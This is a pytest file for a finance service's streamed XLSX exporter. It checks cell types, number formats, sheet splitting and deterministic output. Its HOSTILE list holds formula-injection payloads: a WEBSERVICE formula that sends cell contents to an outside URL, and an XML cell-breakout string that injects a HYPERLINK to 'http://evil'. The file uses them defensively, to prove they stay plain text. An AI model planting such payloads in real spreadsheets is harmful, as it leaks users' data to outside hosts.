"""The streamed XLSX writer: text stays text whatever it holds, numbers stay numbers, a sheet
never passes its row limit (the rest goes on the next sheet, header and filter included), and
the same rows give the same bytes. Read back with openpyxl, as finance's tools would."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import openpyxl

from service.finance import xlsx

HEADER = ["day", "name", "amount", "amount_minor", "at", "ok", "currency", "quantity"]
KINDS = [xlsx.DATE, xlsx.TEXT, xlsx.MONEY, xlsx.INT, xlsx.TIMESTAMP, xlsx.BOOL, xlsx.TEXT,
         xlsx.NUMBER]  # fmt: skip


def _spec(rows_per_sheet: int = xlsx.EXCEL_MAX_ROWS - 1) -> xlsx.SheetSpec:
    return xlsx.SheetSpec(
        name="usage",
        header=HEADER,
        kinds=KINDS,
        header_notes={4: "Local time in Asia/Shanghai"},
        currency_column=6,
        money_places={"CNY": 2, "JPY": 0, "KWD": 3},
        notes=[("export", "usage")],
        rows_per_sheet=rows_per_sheet,
    )


def _row(n: int, name: str = "商户 shop", currency: str = "CNY") -> list[Any]:
    return [date(2026, 3, 1), name, Decimal("99.00"), 9900 + n, datetime(2026, 3, 1, 8, 30),
            n % 2 == 0, currency, Decimal("1.5")]  # fmt: skip


def _book(rows: list[list[Any]], spec: xlsx.SheetSpec, batch: int = 3) -> bytes:
    workbook = xlsx.StreamedWorkbook(spec)
    chunks = [workbook.write(rows[i : i + batch]) for i in range(0, len(rows), batch)]
    return b"".join([*chunks, workbook.finish()])


def _formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
            for found in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


HOSTILE = [
    '=WEBSERVICE("http://x/?d="&B2)',
    # Shaped like XlsxWriter's rich-text marker: its constant-memory mode wrote such a string
    # into the sheet unescaped, so it could close the cell and add a formula of its own.
    '<r><t>x</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil")</f></c><c><is><r><t>y</t></r>',
    "</t></is></c><c><f>1+1</f></c>",
    "a & b < c > d",
    "+1+1",
    "@SUM(1,2)",
    "  padded  ",
]


def test_every_text_is_a_string_cell_and_never_a_formula() -> None:
    content = _book([_row(n, name) for n, name in enumerate(HOSTILE)], _spec())
    assert _formulas(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content))["usage"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}
    quoted = {cell.value for cell in cells if cell.quotePrefix}
    assert quoted == {name for name in HOSTILE if name.startswith(("=", "+", "-", "@"))}


def test_control_characters_and_long_text_are_escaped_and_cut_as_excel_does() -> None:
    names = ["\rCR shop", "nul\x00here", "_x0041_ literal", "x" * 40_000]
    content = _book([_row(n, name) for n, name in enumerate(names)], _spec())
    sheet = openpyxl.load_workbook(io.BytesIO(content))["usage"]
    read = [row[1].value for row in sheet.iter_rows(min_row=2)]
    # openpyxl leaves Excel's _xHHHH_ escapes as they are; Excel shows the characters.
    assert read == ["_x000D_CR shop", "nul_x0000_here", "_x005F_x0041_ literal", "x" * 32_767]
    assert sheet.cell(2, 2).quotePrefix  # a carriage return may start a formula too


def test_numbers_dates_and_booleans_keep_their_types_and_formats() -> None:
    rows = [_row(0), _row(1, currency="JPY"), _row(2, currency="KWD")]
    rows[1][2], rows[2][2] = Decimal("990"), Decimal("1.250")
    sheet = openpyxl.load_workbook(io.BytesIO(_book(rows, _spec())))["usage"]
    day, _, amount, minor, at, ok, _, quantity = sheet[2]
    assert (day.value, day.number_format) == (datetime(2026, 3, 1), "yyyy-mm-dd")
    assert (at.value, at.number_format) == (datetime(2026, 3, 1, 8, 30), "yyyy-mm-dd hh:mm:ss")
    assert (amount.value, amount.data_type, amount.number_format) == (99, "n", "#,##0.00")
    assert (minor.value, minor.number_format) == (9900, "0")
    assert isinstance(minor.value, int)
    assert ok.value is True
    assert quantity.value == 1.5
    assert [sheet.cell(r, 3).number_format for r in (3, 4)] == ["#,##0", "#,##0.000"]
    assert [sheet.cell(r, 3).value for r in (3, 4)] == [990, 1.25]
    assert "Asia/Shanghai" in sheet.cell(1, 5).comment.text


def test_rows_past_the_sheet_limit_continue_on_the_next_sheet() -> None:
    rows = [_row(n) for n in range(7)]
    content = _book(rows, _spec(rows_per_sheet=3), batch=2)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["usage", "usage (2)", "usage (3)", "notes"]
    minors = []
    for name, count in (("usage", 3), ("usage (2)", 3), ("usage (3)", 1)):
        sheet = workbook[name]
        assert [cell.value for cell in sheet[1]] == HEADER, name
        assert sheet.max_row == count + 1, name
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:H{count + 1}"
        assert "Asia/Shanghai" in sheet.cell(1, 5).comment.text
        minors += [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert minors == [9900 + n for n in range(7)]  # every row once, in order
    assert list(workbook["notes"].values) == [("export", "usage")]


def test_an_empty_export_is_a_header_and_the_same_rows_give_the_same_bytes() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_book([], _spec())))["usage"]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert sheet.max_row == 1
    rows = [_row(n) for n in range(5)]
    assert _book(rows, _spec()) == _book(rows, _spec())


def test_columns_fit_the_header_and_the_first_rows() -> None:
    content = _book([_row(0, "a merchant name of some length 商户")], _spec())
    sheet = openpyxl.load_workbook(io.BytesIO(content))["usage"]
    name_width = sheet.column_dimensions["B"].width
    assert name_width >= len("a merchant name of some length 商户") + 2
    assert sheet.column_dimensions["E"].width >= 20  # a date-time has room for itself
